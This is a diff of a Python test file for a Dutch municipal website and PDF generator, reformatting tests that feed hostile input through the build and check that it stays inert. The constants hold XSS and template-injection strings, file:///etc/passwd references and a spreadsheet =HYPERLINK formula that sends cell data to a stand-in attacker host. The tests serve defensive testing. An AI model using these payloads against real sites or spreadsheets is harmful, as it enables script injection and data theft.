@@ -32,10 +32,10 @@ from tests.conftest import REPO, Region, free_port, pdf_pages
 D = "gemeenten/druten.yaml"
 WORD = ("Werkbedrijfsdienstverlening" * 3704)[:100_000]  # one word of 100.000 characters
 TITEL = "<script>alert('titel')</script> {{ 7*7 }} {% if true %}ja{% endif %} \u202eLEZEN\u202c"
-DOELGROEP = "<img src=x onerror=alert(1)> [klik](javascript:alert(1)) {: onclick=\"alert(1)\" } *nadruk*"
-OMSCHRIJVING = "<img src=\"file:///etc/passwd\"> ![beeld](file:///etc/passwd) nul\u200bbreed " + WORD
-AFSPRAAK = "<a href=\"javascript:alert(1)\">Klik</a> [link](javascript:alert(1)){: .knop }"
-TOELICHTING = "=HYPERLINK(\"http://aanvaller.example/?d=\"&A1,\"Klik hier\")"
+DOELGROEP = '<img src=x onerror=alert(1)> [klik](javascript:alert(1)) {: onclick="alert(1)" } *nadruk*'
+OMSCHRIJVING = '<img src="file:///etc/passwd"> ![beeld](file:///etc/passwd) nul\u200bbreed ' + WORD
+AFSPRAAK = '<a href="javascript:alert(1)">Klik</a> [link](javascript:alert(1)){: .knop }'
+TOELICHTING = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")'
 
 
 def _hostile_druten(region: Region) -> str:
@@ -118,7 +118,7 @@ def test_hostile_text_stays_text_on_every_page_and_the_pdf_still_renders(region:
         assert fragment in dvo
     gemeente_page = "".join(_page(pages[1]).text)
     assert "<script>alert('titel')</script> {{ 7*7 }} {% if true %}ja{% endif %}" in gemeente_page
-    assert "[klik](javascript:alert(1)) {: onclick=\"alert(1)\" } *nadruk*" in gemeente_page
+    assert '[klik](javascript:alert(1)) {: onclick="alert(1)" } *nadruk*' in gemeente_page
     assert "\u202eLEZEN\u202c" in gemeente_page
     assert TOELICHTING in "".join(_page(pages[2]).text)
     # The PDF renders: every page there, the text as text, nothing fetched but the own assets.
@@ -128,8 +128,8 @@ def test_hostile_text_stays_text_on_every_page_and_the_pdf_still_renders(region:
     assert served and all(url.startswith(static) for url in served), sorted(set(served))
     # Open data: the formula is text a spreadsheet will not run; JSON keeps it as it is.
     csv_text = (site / "pdf" / "kpi-druten.csv").read_text(encoding="utf-8")
-    assert "\"'=HYPERLINK(\"\"http://aanvaller.example/?d=\"\"&A1,\"\"Klik hier\"\")\"" in csv_text
-    assert ",=HYPERLINK" not in csv_text and ",\"=HYPERLINK" not in csv_text
+    assert '"\'=HYPERLINK(""http://aanvaller.example/?d=""&A1,""Klik hier"")"' in csv_text
+    assert ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text
     rows = json.loads((site / "pdf" / "kpi-druten.json").read_text(encoding="utf-8"))
     assert TOELICHTING in [r["toelichting"] for r in rows]
 
@@ -165,7 +165,9 @@ with build_lock(Path(sys.argv[1]), wait=False):
 
 
 def _holder(staging: Path, how: str) -> subprocess.Popen:
-    proc = subprocess.Popen([sys.executable, "-c", HOLD, str(staging), how], stdout=subprocess.PIPE, text=True, cwd=REPO)
+    proc = subprocess.Popen(
+        [sys.executable, "-c", HOLD, str(staging), how], stdout=subprocess.PIPE, text=True, cwd=REPO
+    )
     assert proc.stdout.readline().strip() == "vast"
     return proc
 
@@ -190,9 +192,8 @@ def test_a_preview_rebuild_waits_for_the_other_build(tmp_path: Path):
     waited_for = []
     try:
         start = time.monotonic()
-        with pytest.raises(BuildBusy):
-            with build_lock(tmp_path, wait=False):
-                pass
+        with pytest.raises(BuildBusy), build_lock(tmp_path, wait=False):
+            pass
         with build_lock(tmp_path, wait=True, on_wait=waited_for.append) as killed:
             waited = time.monotonic() - start
             assert killed is None  # the other build ended normally
@@ -236,7 +237,13 @@ with build_lock(Path(sys.argv[1]), wait=False):
 
 def _other_build(staging: Path) -> subprocess.Popen:
     """Another build of the repository: holds its lock until told to finish (`_finish`)."""
-    proc = subprocess.Popen([sys.executable, "-c", HOLD_UNTIL_TOLD, str(staging)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=REPO)
+    proc = subprocess.Popen(
+        [sys.executable, "-c", HOLD_UNTIL_TOLD, str(staging)],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        text=True,
+        cwd=REPO,
+    )
     assert proc.stdout.readline().strip() == "vast"
     return proc
 
@@ -255,7 +262,11 @@ def test_dvo_serve_waits_for_another_build_instead_of_refusing(warm: Region):
     other = _other_build(warm.root / ".staging")
     proc = subprocess.Popen(
         [sys.executable, "-m", "generator", "serve", "--root", str(warm.root), "--port", str(port), "--jobs", "1"],
-        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env={**os.environ, "CI": "1"}, cwd=REPO,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+        env={**os.environ, "CI": "1"},
+        cwd=REPO,
     )
     out = _Output(proc)
     try:
@@ -320,8 +331,12 @@ def _kill_build_at(root: Path, marker: str, delay: float) -> None:
     (root / ".staging" / "cache" / "documenten.json").unlink()
     proc = subprocess.Popen(
         [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--jobs", "2", "--root", str(root)],
-        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, cwd=REPO,
-        env={**os.environ, "CI": "1"}, start_new_session=True,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+        cwd=REPO,
+        env={**os.environ, "CI": "1"},
+        start_new_session=True,
     )
     try:
         deadline = time.time() + 300
@@ -346,7 +361,9 @@ def test_a_build_killed_while_pages_are_built_leaves_the_previous_site_complete(
     assert _site_is_complete(root / "site") == before
 
 
-def test_a_build_killed_while_documents_are_made_keeps_the_site_and_the_next_build_cleans_up(built: Path, tmp_path: Path):
+def test_a_build_killed_while_documents_are_made_keeps_the_site_and_the_next_build_cleans_up(
+    built: Path, tmp_path: Path
+):
     root = _copy_built(built, tmp_path / "regio")
     before = _site_is_complete(root / "site", open_pdfs=False)
     _kill_build_at(root, "[1/", 0.0)  # the workers are rendering and writing PDFs
@@ -355,7 +372,11 @@ def test_a_build_killed_while_documents_are_made_keeps_the_site_and_the_next_bui
     assert lock.isdigit()  # the killed build's mark
     proc = subprocess.run(
         [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--jobs", "2", "--root", str(root)],
-        capture_output=True, text=True, cwd=REPO, env={**os.environ, "CI": "1"}, timeout=600,
+        capture_output=True,
+        text=True,
+        cwd=REPO,
+        env={**os.environ, "CI": "1"},
+        timeout=600,
     )
     assert proc.returncode == 0, proc.stderr
     assert f"Een eerdere bouw (proces {lock}) is afgebroken; wat die achterliet, is opgeruimd." in proc.stderr
@@ -432,13 +453,17 @@ def test_a_read_only_site_folder_is_refused_before_anything_is_built(built: Path
     try:
         proc = subprocess.run(
             [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--root", str(root)],
-            capture_output=True, text=True, cwd=REPO, timeout=300,
+            capture_output=True,
+            text=True,
+            cwd=REPO,
+            timeout=300,
         )
     finally:
         (root / "site").chmod(0o755)
     assert proc.returncode == 1 and "Traceback" not in proc.stderr
     assert proc.stderr.splitlines()[-1] == (
-        f"Fout: site/ is alleen-lezen; maak de map schrijfbaar om de site te bouwen. De site is niet gebouwd; {root / 'site'} is ongewijzigd."
+        "Fout: site/ is alleen-lezen; maak de map schrijfbaar om de site te bouwen. De site is niet gebouwd; "
+        f"{root / 'site'} is ongewijzigd."
     )
     assert _site_is_complete(root / "site", open_pdfs=False) == before
     assert sorted(p.relative_to(root).as_posix() for p in (root / ".staging").rglob("*")) == staging
